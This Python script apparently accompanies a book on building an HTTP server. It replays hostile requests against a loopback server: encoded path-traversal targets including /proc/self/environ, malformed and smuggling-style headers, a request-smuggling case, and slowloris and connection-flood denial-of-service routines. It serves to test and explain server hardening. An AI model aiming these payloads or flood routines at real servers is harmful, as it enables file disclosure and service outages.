#!/usr/bin/env python3
"""Sends raw requests to a server and prints what comes back: the book's hostile-network captures.

    python3 book/scripts/attack.py 127.0.0.1:7080 traversal
    (or malformed, smuggle, slowloris, vanish, and "flood PID" for a server under prlimit --nofile=64:64)

Standard library only. It is not part of the test suite (the tests the chapter names are); it replays
the attacks against any step started on loopback.
"""
import socket, sys, time, threading

HOST, PORT = sys.argv[1].rsplit(":", 1)
PORT = int(PORT)

def exchange(raw, read_all=False, timeout=5):
    s = socket.create_connection((HOST, PORT))
    s.settimeout(timeout)
    try:
        s.sendall(raw)
    except OSError as error:
        pass
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
            if not read_all and b"\r\n\r\n" in data:
                break
    except (socket.timeout, ConnectionResetError):
        pass
    s.close()
    return data

def status(raw):
    data = exchange(raw)
    return data.split(b"\r\n", 1)[0].decode(errors="replace") if data else "(no answer)"

def get(target):
    return f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode()

what = sys.argv[2]
if what == "traversal":
    for target in ["/../secret.txt", "/%2e%2e/secret.txt", "/%252e%252e/secret.txt", "/..%5csecret.txt",
                   "/secret.txt%00.html", "/%c0%ae%c0%ae/secret.txt", "/escape.txt", "/up/secret.txt",
                   "/proc/self/environ", "/inside.html"]:
        print(f"{target:28} {status(get(target))}")
elif what == "malformed":
    cases = [
        ("target of 9 KiB", get("/" + "a" * 9 * 1024)),
        ("head of 20 KiB", b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"b" * 20 * 1024 + b"\r\n\r\n"),
        ("101 header lines", b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: v\r\n" % i for i in range(101)) + b"\r\n"),
        ("HTTP/2.0", b"GET / HTTP/2.0\r\nHost: x\r\n\r\n"),
        ("HTTP/1.1 without Host", b"GET / HTTP/1.1\r\n\r\n"),
        ("two Hosts", b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
        ("space before the colon", b"GET / HTTP/1.1\r\nHost : x\r\n\r\n"),
        ("obsolete line folding", b"GET / HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\n\r\n"),
        ("bare CR", b"GET / HTTP/1.1\rHost: x\r\n\r\n"),
        ("Transfer-Encoding", b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("TE and Content-Length", b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"),
        ("two Content-Lengths", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
        ("Content-Length: +3", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: +3\r\n\r\nabc"),
        ("a 70,000-byte body on GET", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 70000\r\n\r\n"),
        ("%zz in the path", get("/%zz")),
        ("DELETE", b"DELETE / HTTP/1.1\r\nHost: x\r\n\r\n"),
    ]
    for name, raw in cases:
        print(f"{name:28} {status(raw)}")
elif what == "smuggle":
    smuggled = b"GET /hello%20world.txt HTTP/1.1\r\nHost: x\r\n\r\n"
    raw = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(smuggled) + smuggled
    print(exchange(raw, read_all=True).decode())
elif what == "slowloris":
    n = 50
    results = []
    def trickle(i):
        s = socket.create_connection((HOST, PORT))
        start = time.monotonic()
        s.sendall(b"GET / HTTP/1.1\r\n")
        s.settimeout(0.5)
        data = b""
        while b"\r\n" not in data:
            try:
                s.sendall(b"X")
            except OSError:
                break
            try:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            except socket.timeout:
                pass
        results.append((time.monotonic() - start, data.split(b"\r\n", 1)[0].decode()))
    threads = [threading.Thread(target=trickle, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    time.sleep(0.5)
    start = time.monotonic()
    line = status(get("/"))
    print(f"fresh client, with {n} trickling: {line} after {(time.monotonic() - start) * 1000:.1f} ms")
    for t in threads:
        t.join()
    times = sorted(r[0] for r in results)
    answers = sorted(set(r[1] for r in results))
    print(f"trickling clients: {len(results)} answered {answers} after {times[0]:.2f} to {times[-1]:.2f} s")
elif what == "flood":
    conns = []
    for _ in range(100):
        try:
            conns.append(socket.create_connection((HOST, PORT)))
        except OSError as error:
            print("connect:", error)
    print(f"holding {len(conns)} connections")
    time.sleep(1.0)
    import os
    # Only numbers below the limit: the capture's own shell leaks one high descriptor into every child.
    fds = [int(fd) for fd in os.listdir(f"/proc/{sys.argv[3]}/fd") if int(fd) < 64]
    print(f"server descriptors while flooded: {len(fds)} (the limit is 64)")
    for c in conns:
        c.close()
    time.sleep(0.2)
    start = time.monotonic()
    print(f"after the flood left: {status(get('/'))} in {(time.monotonic() - start) * 1000:.1f} ms")
elif what == "vanish":
    for _ in range(20):
        s = socket.create_connection((HOST, PORT))
        s.sendall(get("/large.bin"))
        s.recv(4096)
        s.close()
    print("20 clients hung up in the middle of a 16 MiB response")
    print("next request:", status(get("/")))
